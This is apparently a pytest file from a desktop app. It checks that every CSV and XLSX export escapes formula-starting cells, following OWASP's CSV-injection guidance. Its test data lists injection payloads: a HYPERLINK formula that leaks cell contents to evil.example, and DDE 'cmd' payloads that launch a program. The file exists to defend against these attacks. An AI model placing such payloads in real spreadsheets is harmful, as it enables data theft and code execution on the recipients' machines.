"""Every CSV or XLSX the app writes neutralises formula cells (OWASP's CSV-injection rule), and
every writer goes through :mod:`curator_desktop.services.spreadsheets`."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from pathlib import Path

import openpyxl
import pytest

from curator_desktop.services.spreadsheets import (
    FORMULA_TRIGGERS,
    neutralise,
    write_csv,
    write_xlsx,
)

PACKAGE = Path(__file__).resolve().parents[3] / "curator_desktop"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1;"Нажмите")',
    "=cmd|' /C calc'!A0",
    "+7 (910) 412-37-85",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
ROWS = [
    ["Школа", "Примечание", "Число", "Дата"],
    *[["МОУ «СОШ № 1»", text, -5, dt.date(2026, 12, 25)] for text in HOSTILE],
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_starting_a_formula_gets_a_quote(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["", "МОУ «СОШ № 1»", "a=b", "'=1", -5, 2.5, None, True])
def test_other_values_stay_as_they_are(value: object) -> None:
    assert neutralise(value) == value


def test_the_triggers_are_owasp_s() -> None:
    assert set(FORMULA_TRIGGERS) == {"=", "+", "-", "@", "\t", "\r"}


def test_csv_cells_come_back_neutralised(tmp_path: Path) -> None:
    path = write_csv(tmp_path / "out.csv", ROWS)
    text = path.read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert rows[0] == ROWS[0]
    assert [row[1] for row in rows[1:]] == ["'" + text for text in HOSTILE]
    assert [row[2] for row in rows[1:]] == ["-5"] * len(HOSTILE)  # a number is no formula
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # Excel reads Cyrillic as UTF-8
    assert not list(tmp_path.glob("*.tmp"))


def test_xlsx_has_no_formula_cell(tmp_path: Path) -> None:
    path = write_xlsx(tmp_path / "out.xlsx", ROWS, sheet="Школы: список [1]")
    workbook = openpyxl.load_workbook(path)
    sheet = workbook.active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    assert [sheet.cell(row, 2).value for row in range(2, len(ROWS) + 1)] == [
        "'" + text for text in HOSTILE
    ]
    assert sheet.cell(2, 3).value == -5
    assert sheet.cell(2, 3).data_type == "n"


def test_xlsx_drops_characters_excel_cannot_hold(tmp_path: Path) -> None:
    path = write_xlsx(tmp_path / "out.xlsx", [["a\x00b\x07c", "=\x01x"]])
    sheet = openpyxl.load_workbook(path).active
    assert [sheet.cell(1, 1).value, sheet.cell(1, 2).value] == ["abc", "'=x"]


def test_every_writer_goes_through_the_spreadsheets_package() -> None:
    """A CSV or XLSX written anywhere else would skip the neutralising: write it through
    ``services.spreadsheets`` (selfcheck's own test workbook aside: fixed text, never shown)."""
    writers = re.compile(r"csv\.writer|DictWriter|Workbook\(|WriteOnlyCell|xlsxwriter")
    allowed = {PACKAGE / "services" / "spreadsheets", PACKAGE / "selfcheck" / "checks.py"}
    found = [
        str(path.relative_to(PACKAGE))
        for path in PACKAGE.rglob("*.py")
        if not any(path.is_relative_to(a) for a in allowed)
        and writers.search(path.read_text(encoding="utf-8"))
    ]
    assert found == []
